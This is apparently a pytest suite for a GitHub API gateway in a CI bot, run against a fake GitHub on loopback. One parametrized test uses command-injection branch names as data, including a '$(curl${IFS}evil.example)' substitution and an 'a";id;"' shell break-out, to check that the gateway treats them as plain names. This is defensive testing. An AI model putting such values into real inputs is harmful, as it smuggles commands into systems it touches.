"""The gateway against a GitHub on loopback."""

import pytest

from bot.gateway import Gateway, NotThere
from bot.gateway.problems import Refused
from bot.gateway.records import ACTIONS, Annotation, CheckRun, Identity
from policy.problems import UserProblem
from tests.bot.gateway.scene import REPOSITORY, Scene


def environment(here: Scene, **more: str) -> dict[str, str]:
    return {"GITHUB_TOKEN": here.token, "GITHUB_API_URL": here.github.url, "GITHUB_REPOSITORY": REPOSITORY, **more}


def test_the_environment_of_a_runner_is_enough(here: Scene) -> None:
    gateway = Gateway.from_environment(environment(here, GITHUB_ACTIONS="true"))
    assert gateway.repository().full_name == REPOSITORY
    assert gateway.identity() == Identity(ACTIONS.login) and gateway.requests == 1


def test_on_github_com_the_jobs_own_account_is_known_by_its_ids() -> None:
    gateway = Gateway.from_environment({"GH_TOKEN": "ghs_x", "GITHUB_REPOSITORY": "a/b", "GITHUB_ACTIONS": "true"})
    assert gateway.identity() == ACTIONS


def test_ap_07_an_enterprise_server_is_spoken_to_under_its_prefix(here: Scene) -> None:
    gateway = Gateway.from_environment(environment(here, GITHUB_API_URL=here.github.enterprise_url + "/"))
    for number in range(130):
        here.github.comment(REPOSITORY, here.number, f"comment {number}")
    assert len(gateway.comments(here.number)) == 130
    assert gateway.requests == 2


def test_a_missing_token_or_repository_is_a_problem_that_says_what_to_pass() -> None:
    with pytest.raises(UserProblem, match=r"github\.token"):
        Gateway.from_environment({"GITHUB_REPOSITORY": "a/b"})
    for name in ("", "flights", "a/b/c", "../x"):
        with pytest.raises(UserProblem, match="owner/name"):
            Gateway.from_environment({"GITHUB_TOKEN": "x", "GITHUB_REPOSITORY": name})


def test_a_person_an_app_and_a_job_know_who_they_are(here: Scene) -> None:
    person = here.github.user_token("ada")
    assert Gateway.from_environment(environment(here, GITHUB_TOKEN=person)).identity().login == "ada"
    app = here.github.app("assay-office")
    named = Gateway.from_environment(environment(here, ASSAY_APP_SLUG="assay-office"))
    assert named.identity() == Identity("assay-office[bot]", app.bot.id)
    assert Gateway.from_environment(environment(here)).identity().login == ACTIONS.login


def test_a_forks_pull_request_is_found_by_branch_and_commit(here: Scene) -> None:
    here.github.fork(REPOSITORY, "ada")
    sha = here.github.commit("ada/flights", {"README.md": "mine"}, branch="feature")
    theirs = here.github.pull(REPOSITORY, "ada:feature", author="ada")
    assert [each.number for each in here.gateway.pull_requests_with_head(sha, "ada", "feature")] == [theirs.number]
    assert here.gateway.pull_requests_with_head("0" * 40, "ada", "feature") == []
    assert [each.number for each in here.gateway.pull_requests_of_commit(here.head)] == [here.number]


def test_a_file_is_read_at_a_revision(here: Scene) -> None:
    assert here.gateway.file("assay.yml", here.base) == b"version: 1\n"
    assert here.gateway.file("nothing.yml", here.base) is None
    here.github.commit(REPOSITORY, {".assay/templates/comment.md.j2": "x", ".assay/templates/deep/y": "y"})
    assert here.gateway.folder(".assay/templates", "main") == ["comment.md.j2"]
    assert here.gateway.folder(".assay/templates", here.base) == []
    assert here.gateway.file(".assay/templates", "main") is None


def test_two_revisions_are_compared(here: Scene) -> None:
    tip = here.github.commit(REPOSITORY, {"NEWS.md": "news"})
    found = here.gateway.compare("main", here.head)
    assert (found.base, found.merge_base, found.files, found.whole) == (tip, here.base, ("README.md",), True)
    assert here.gateway.merge_base("main", here.head) == here.base
    assert here.gateway.compare(here.base, tip).status == "ahead"
    assert here.gateway.changed_files(here.number) == ["README.md"]
    assert here.gateway.commit_parents(here.head) == [here.base]


def test_a_comment_is_written_changed_and_deleted(here: Scene) -> None:
    made = here.gateway.create_comment(here.number, "first")
    here.gateway.update_comment(made.id, "second")
    assert [each.body for each in here.gateway.comments(here.number)] == ["second"]
    here.gateway.delete_comment(made.id)
    here.gateway.delete_comment(made.id)
    assert here.gateway.comments(here.number) == []
    with pytest.raises(NotThere):
        here.gateway.update_comment(made.id, "third")


def test_ga_14_a_comment_that_is_too_long_is_refused_before_it_is_sent(here: Scene) -> None:
    with pytest.raises(Refused, match="65,536"):
        here.gateway.create_comment(here.number, "x" * 65_537)
    assert here.gateway.requests == 0


def check(count: int = 0, external_id: str = "assay 1") -> CheckRun:
    remarks = tuple(Annotation("README.md", 1, 1, "warning", f"remark {at}") for at in range(count))
    return CheckRun("assay / data", "", external_id, "completed", "failure", "title", "summary", annotations=remarks)


def test_ga_14_annotations_go_in_batches_of_fifty(here: Scene) -> None:
    from dataclasses import replace

    made = here.gateway.create_check_run(replace(check(120), head_sha=here.head))
    assert [str(each).split(" ->")[0].split()[0] for each in here.github.requests] == ["POST", "PATCH", "PATCH"]
    (there,) = here.github.state.repositories[REPOSITORY].checks.values()
    assert (there.id, len(there.annotations), there.conclusion) == (made, 120, "failure")
    (record,) = here.gateway.check_runs(here.head)
    assert (record.name, record.external_id, record.app_id) == ("assay / data", "assay 1", 15368)


def test_ap_02_a_check_whose_answer_was_lost_is_not_created_twice(here: Scene) -> None:
    from dataclasses import replace

    here.github.fail("drop", "POST", "/check-runs", after=True)
    here.gateway.create_check_run(replace(check(), head_sha=here.head))
    assert len(here.github.state.repositories[REPOSITORY].checks) == 1


def test_a_status_is_set_and_read(here: Scene) -> None:
    here.gateway.create_status(here.head, "assay / data", "pending", "x" * 300)
    here.gateway.create_status(here.head, "assay / data", "success", "fine", "https://example.org")
    first, second = here.gateway.statuses(here.head)
    assert (first.state, first.description, second.state, len(second.description)) == ("success", "fine", "pending", 140)


def test_git_data_makes_a_branch(here: Scene) -> None:
    blob = here.gateway.create_blob(b"\x89PNG\0")
    tree = here.gateway.create_tree(None, {"a/b.png": blob})
    commit = here.gateway.create_commit("pictures", tree, [])
    here.gateway.create_ref("heads/pictures", commit)
    assert here.gateway.ref("heads/pictures") == commit and here.gateway.ref("heads/none") is None
    assert here.gateway.tree(commit) == {"a/b.png": (blob, 5)}
    with pytest.raises(Refused):
        here.gateway.create_ref("heads/pictures", here.base)
    more = here.gateway.create_tree(tree, {"c.png": blob})
    later = here.gateway.create_commit("more", more, [commit])
    here.gateway.update_ref("heads/pictures", later)
    assert set(here.gateway.tree(later)) == {"a/b.png", "c.png"}
    with pytest.raises(Refused):
        here.gateway.update_ref("heads/pictures", here.base)


@pytest.mark.parametrize("branch", ["$(curl${IFS}evil.example)", 'a";id;"', "a&b=c#d", "ünïcode/x", "100%"])
def test_ga_06_a_hostile_branch_is_a_name_and_nothing_else(here: Scene, branch: str) -> None:
    sha = here.github.commit(REPOSITORY, {"x": "y"}, branch=branch)
    pull = here.github.pull(REPOSITORY, branch)
    assert [each.number for each in here.gateway.pull_requests_with_head(sha, "acme", branch)] == [pull.number]
    assert here.gateway.compare(branch, here.head).merge_base == here.base
    assert here.gateway.ref(f"heads/{branch}") == sha


def test_something_that_is_no_github_is_a_problem(here: Scene) -> None:
    from bot.gateway.gateway import _made
    from bot.gateway.records import Repository
    from policy.problems import OutsideProblem

    with pytest.raises(OutsideProblem, match="lacks"):
        _made(Repository.of, {"id": 1})
